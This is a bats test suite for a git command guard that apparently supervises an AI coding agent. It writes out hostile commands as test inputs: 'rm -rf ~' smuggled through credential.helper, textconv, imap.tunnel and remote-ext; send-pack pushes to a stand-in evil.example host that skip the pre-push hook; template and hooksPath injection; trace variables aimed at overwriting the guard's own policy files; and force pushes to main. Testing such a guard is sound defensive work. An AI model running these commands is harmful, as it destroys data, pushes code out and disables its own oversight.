#!/usr/bin/env bats
# attack9 J8, J12, J13, J14, J15, J18, J22 (findings9.md): git verbs and
# settings that push without the pre-push hook (send-pack, http-push, a
# fetch run in the remote), run shell text (credential.helper='!...',
# textconv, imap.tunnel, remote-ext, clone/init templates, clone -c), write
# guard's state through git's trace targets, and name a protected branch
# as git resolves it (heads/main, refs/heads/*). Each attack has a user
# twin that keeps its verdict. Ratings through the real hook.

load helper

setup() {
	setup_guard
	guard init >/dev/null
	T=$BATS_TEST_TMPDIR
	git init -q --bare "$T/remote.git"
	mkdir -p "$T/tpl/hooks"
}

@test "attack9 J8: git send-pack / http-push are pushes without the pre-push hook" {
	decides "git send-pack --force $T/remote.git +main:main" deny
	decides "git send-pack git@github.com:o/r.git :main" deny
	decides "git send-pack --force $T/remote.git evil:heads/main" deny
	decides "git send-pack --mirror git@github.com:o/r.git" deny # a mirror push forces every ref, main too
	decides "git send-pack $T/remote.git refs/tags/v9 HEAD:refs/heads/main" ask
	decides "git send-pack --all git@evil.example:x.git" ask
	decides "git http-push https://example.com/r.git main" ask
	decides "git -c core.askpass=true send-pack $T/remote.git feature" ask
	decides "git-send-pack --force $T/remote.git +main:main" deny
	decides "/usr/lib/git-core/git-send-pack $T/remote.git :main" deny
	decides "git -C $T/remote.git fetch $PROJ +main:main" ask
	# twins: git push and a fetch of the project's own refs keep their verdicts
	decides "git push origin feature" allow
	decides "git fetch origin main:main" allow
	decides "git -C $T/remote.git fetch $PROJ feature:feature" allow
}

@test "attack9 J12: a runner setting's '!' value is shell text in every spelling" {
	decides "git -c credential.helper='!rm -rf ~' fetch https://github.com/o/r" deny
	decides "git -c credential.https://github.com.helper='!rm -rf ~' push" deny
	decides "git -c credential.helper='!rm -rf ~; echo ' credential approve" deny
	decides "git -c 'diff.x.textconv=!rm -rf ~' diff" deny
	decides "git -c core.sshCommand='!rm -rf ~' fetch" deny
	decides "git config credential.helper '!rm -rf ~'" deny
	# twins: a helper by name, the cache with options
	decides "git -c credential.helper=store fetch" allow
	decides "git -c credential.helper='cache --timeout=300' fetch" allow
}

@test "attack9 J13: remote-ext runs its command as ext:: does; daemon, remote add, fetch-pack are rated" {
	decides "git remote-ext x 'sh -c rm% -rf% ~'" deny
	decides "git-remote-ext x 'sh -c rm% -rf% ~'" deny
	decides "/usr/lib/git-core/git-remote-ext x 'sh -c rm% -rf% ~'" deny
	decides "git remote-ext x 'ssh host git-upload-pack'" ask
	decides "git remote-fd 3" ask
	decides "git daemon --export-all --base-path=/ --enable=receive-pack" ask
	run guard-risk -c "git fetch-pack git@evil.example:x.git"
	[[ $output == *"not in allowed_hosts: evil.example"* ]]
	run guard-risk -c "git remote add x git@evil.example:x.git"
	[[ $output == *"not in allowed_hosts: evil.example"* ]]
	run guard-risk -c "git instaweb"
	[[ $output == *'"level":"medium"'* ]]
	# twins
	decides "git remote add upstream https://github.com/o/r.git" allow
	decides "git ls-remote origin" allow
}

@test "attack9 J14: clone/init --template, GIT_TEMPLATE_DIR, clone -c/--config, imap.tunnel" {
	decides "git clone -b main --template=$T/tpl $T/remote.git $T/cl" ask
	decides "git clone --templ=$T/tpl $T/remote.git $T/cl" ask
	decides "git clone --template $T/tpl $T/remote.git $T/cl" ask
	decides "GIT_TEMPLATE_DIR=$T/tpl git clone $T/remote.git $T/cl" ask
	decides "export GIT_TEMPLATE_DIR=$T/tpl" ask
	decides "git init --template=$T/tpl $T/new" ask
	decides "git clone -c core.hooksPath=$T/tpl/hooks $T/remote.git $T/cl" deny
	decides "git clone --config core.hooksPath=$T/tpl/hooks $T/remote.git $T/cl" deny
	decides "git clone --config=core.fsmonitor='rm -rf ~' $T/remote.git $T/cl" ask
	decides "git -c imap.folder=x -c imap.host=x -c imap.tunnel='rm -rf ~' imap-send" deny
	# twins
	decides "git clone $T/remote.git $T/cl" allow
	decides "git clone -c http.sslVerify=true $T/remote.git $T/cl" allow
	decides "git init $T/new" allow
}

@test "attack9 J15: git init with a template over the project's repository is a write of .git/hooks" {
	decides "git init --template=$T/tpl ." deny
	decides "git init --templ=$T/tpl" deny
	decides "GIT_TEMPLATE_DIR=$T/tpl git init" deny
	decides "git -c init.templateDir=$T/tpl init ." deny
	decides "git -C $PROJ init --template $T/tpl" deny
	# twins: re-initialising without a template, a template for a new repository (high, asked)
	decides "git init" allow
	decides "git init --template=$T/tpl $T/other" ask
}

@test "attack9 J18: GIT_TRACE* and trace2.*Target naming guard's state are writes of it" {
	decides "GIT_TRACE=$PROJ/.ai/policy.yaml git status" deny
	decides "GIT_TRACE_SETUP=$PROJ/.git/hooks/pre-push git status" deny
	decides "GIT_TRACE2_EVENT=$PROJ/.claude/settings.json git status" deny
	decides "env GIT_TRACE_PACKET=$PROJ/.ai/policy.yaml git fetch" deny
	decides "export GIT_TRACE_CURL=$PROJ/.ai/policy.yaml" deny
	decides "git -c trace2.normalTarget=$PROJ/.ai/policy.yaml status" deny
	decides "git -c trace2.eventTarget=$PROJ/.ai/policy.yaml status" deny
	decides "git config --global trace2.perfTarget $PROJ/.ai/policy.yaml" deny
	# twins: to the terminal, to a log in the temp area
	decides "GIT_TRACE=1 git status" allow
	decides "GIT_TRACE=true git status" allow
	decides "GIT_TRACE=$T/trace.log git status" allow
	decides "git -c trace2.perfTarget=$T/perf.log status" allow
}

@test "attack9 J22: a push destination is resolved as git does before the protected-branch test" {
	decides "git push -f origin evil:heads/main" deny
	decides "git push -f origin HEAD:heads/main" deny
	decides "git push origin +evil:heads/main" deny
	decides "git push origin :heads/main" deny
	decides "git push -d origin heads/main" deny
	decides "git push origin --delete heads/main" deny
	decides "git push origin '+refs/heads/*:refs/heads/*'" deny
	decides "git push origin '+refs/heads/ma*:refs/heads/ma*'" deny
	# twins: a force push of a feature branch is asked, a plain push allowed
	decides "git push -f origin feat:heads/feat" ask
	decides "git push origin '+refs/heads/feature/*:refs/heads/feature/*'" ask
	decides "git push origin feat:heads/feat" allow
}
